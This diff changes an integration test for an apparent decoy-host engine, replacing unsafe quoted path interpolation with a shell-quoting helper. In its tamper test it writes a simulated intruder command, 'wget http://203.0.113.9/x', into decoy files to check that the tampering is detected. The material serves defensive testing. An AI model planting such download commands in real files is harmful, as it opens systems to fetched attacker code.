@@ -8,7 +8,7 @@ import { openEngine } from "../../src/open-engine.ts";
 import { virtualPace } from "../../src/pace.ts";
 import { temporaryFolder } from "../fixtures/temporary-folder.ts";
 import { AT_WORK } from "../fixtures/test-engine.ts";
-import { startContainer, type TestContainer } from "./container.ts";
+import { inShell, startContainer, type TestContainer } from "./container.ts";
 import { DEBIAN_ENTRY, DEBIAN_IMAGE, importDebian } from "./debian-image.ts";
 import { createDockerd } from "./dockerd.ts";
 import { needs } from "./needs.ts";
@@ -128,7 +128,9 @@ if (needs("orchestrating Debian containers", "dockerd", "debootstrap")) {
     for (const decky of opened.engine.info.deckies()) {
       const box = boxes.get(decky.name) as TestContainer;
       for (const row of await opened.store.files.ofDecky(decky.uuid)) {
-        const found = await box.sh(`stat -c '%a %u %g %s %y' '${row.path}'; sha256sum < '${row.path}'`);
+        const found = await box.sh(
+          `stat -c '%a %u %g %s %y' ${inShell(row.path)}; sha256sum < ${inShell(row.path)}`,
+        );
         const mtime = isoNs(row.lastModified).replace("T", " ").replace("Z", " +0000");
         assert.equal(
           found,
@@ -169,11 +171,11 @@ if (needs("orchestrating Debian containers", "dockerd", "debootstrap")) {
     for (const decky of opened.engine.info.deckies()) {
       const rows = (await opened.store.files.ofDecky(decky.uuid)).filter(({ editKey }) => editKey !== null);
       for (const row of rows) {
-        await boxes.get(decky.name)?.sh(`echo 'wget http://203.0.113.9/x' >> '${row.path}'`);
+        await boxes.get(decky.name)?.sh(`echo 'wget http://203.0.113.9/x' >> ${inShell(row.path)}`);
         victims.push({
           decky,
           path: row.path,
-          hash: await boxes.get(decky.name)?.sh(`sha256sum < '${row.path}'`),
+          hash: await boxes.get(decky.name)?.sh(`sha256sum < ${inShell(row.path)}`),
         });
       }
     }
@@ -183,7 +185,7 @@ if (needs("orchestrating Debian containers", "dockerd", "debootstrap")) {
     const told = tampered();
     assert.ok(told.length > 0);
     for (const { decky, path, hash } of victims)
-      assert.equal(await boxes.get(decky.name)?.sh(`sha256sum < '${path}'`), hash);
+      assert.equal(await boxes.get(decky.name)?.sh(`sha256sum < ${inShell(path)}`), hash);
     for (const { payload } of told) assert.ok(victims.some(({ path }) => path === payload.path));
     await opened.close();
   });
